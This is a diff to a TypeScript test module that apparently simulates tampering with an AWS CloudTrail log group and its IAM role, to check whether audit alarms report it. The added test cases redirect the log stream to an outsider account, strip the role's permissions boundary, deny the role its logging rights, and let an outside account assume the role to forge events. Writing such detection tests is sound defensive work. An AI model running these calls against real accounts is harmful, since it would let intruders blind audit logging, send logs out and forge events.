@@ -5,21 +5,24 @@ import {
   DeleteRetentionPolicyCommand,
   DeleteSubscriptionFilterCommand,
   DisassociateKmsKeyCommand,
+  PutMetricFilterCommand,
   PutRetentionPolicyCommand,
   PutSubscriptionFilterCommand,
   TagResourceCommand,
 } from '@aws-sdk/client-cloudwatch-logs';
 import {
   DeleteRoleCommand,
+  DeleteRolePermissionsBoundaryCommand,
   DeleteRolePolicyCommand,
   DetachRolePolicyCommand,
   PutRolePermissionsBoundaryCommand,
+  PutRolePolicyCommand,
   UpdateAssumeRolePolicyCommand,
 } from '@aws-sdk/client-iam';
 import { alarmAttacks } from '#sandbox/alarm-attacks.ts';
 import { auditAlarms, auditLogGroup, auditLogRole } from '#sandbox/audit-dependencies.ts';
 import type { Clients } from '#sandbox/clients.ts';
-import { outsidersKey } from '#sandbox/seed.ts';
+import { outsider, outsidersKey } from '#sandbox/seed.ts';
 
 // The log group of the sandbox's trail, and the role that writes to it.
 
@@ -38,11 +41,12 @@ export const siem = {
   filterPattern: '',
   destinationArn: 'arn:aws:lambda:us-east-1:111122223333:function:siem',
 };
-const cloudTrailMay = (Effect: string) => ({
-  Effect,
-  Principal: { Service: 'cloudtrail.amazonaws.com' },
+const mayAssume = (Effect: string, Principal: object) => ({
+  ...{ Effect, Principal },
   Action: 'sts:AssumeRole',
 });
+const cloudTrailMay = (Effect: string) =>
+  mayAssume(Effect, { Service: 'cloudtrail.amazonaws.com' });
 const trust = (...Statement: object[]) =>
   new UpdateAssumeRolePolicyCommand({
     RoleName,
@@ -76,6 +80,17 @@ const groupAttacks: readonly Attack[] = [
     'copies the log with a subscription filter',
     ({ logs }) => logs.send(new PutSubscriptionFilterCommand({ ...siem, filterName: 'copy' })),
   ],
+  [
+    'passes the log to her own stream instead of the SIEM',
+    ({ logs }) =>
+      logs.send(
+        new PutSubscriptionFilterCommand({
+          ...siem,
+          destinationArn: `arn:aws:kinesis:us-east-1:${outsider.accountId}:stream/hers`,
+          roleArn: 'arn:aws:iam::111122223333:role/hers',
+        }),
+      ),
+  ],
 ];
 
 export const tagAttack: Attack = [
@@ -104,6 +119,10 @@ const roleAttacks: readonly Attack[] = [
       iam.send(new PutRolePermissionsBoundaryCommand({ RoleName, PermissionsBoundary: denyAll })),
   ],
   [
+    'removes the boundary of the role',
+    ({ iam }) => iam.send(new DeleteRolePermissionsBoundaryCommand({ RoleName })),
+  ],
+  [
     'deletes the role',
     async ({ iam }) => {
       await iam.send(new DeleteRolePolicyCommand({ RoleName, PolicyName }));
@@ -117,6 +136,42 @@ export const attacks: readonly Attack[] = [
   ...groupAttacks,
   ...alarmAttacks.map(({ title, call }): Attack => [title, (clients) => call(clients, '')]),
   ...roleAttacks,
+];
+/** What is reported, and left to people, with a part of the alert. */
+export const reported: readonly (readonly [...Attack, alert: string])[] = [
+  [
+    'counts events with a metric filter of her own',
+    ({ logs }) =>
+      logs.send(
+        new PutMetricFilterCommand({
+          ...{ ...group, filterName: 'hers', filterPattern: '' },
+          metricTransformations: [
+            { metricName: 'Hers', metricNamespace: 'Trail', metricValue: '1' },
+          ],
+        }),
+      ),
+    'these metric filters were not captured',
+  ],
+  [
+    'adds a policy to the role that denies it to write',
+    ({ iam }) =>
+      iam.send(
+        new PutRolePolicyCommand({
+          ...{ RoleName, PolicyName: 'deny' },
+          PolicyDocument: JSON.stringify({
+            Version: '2012-10-17',
+            Statement: [{ Effect: 'Deny', Action: 'logs:*', Resource: '*' }],
+          }),
+        }),
+      ),
+    'these policies of the role were not captured',
+  ],
+  [
+    'lets her own account assume the role, too',
+    ({ iam }) =>
+      iam.send(trust(cloudTrailMay('Allow'), mayAssume('Allow', { AWS: outsider.accountId }))),
+    'they can write forged events into the log group',
+  ],
 ];
 export const deletions = [...attacks.slice(0, 1), ...attacks.slice(-1)];
 /** What changes the group and the role without deleting them. */
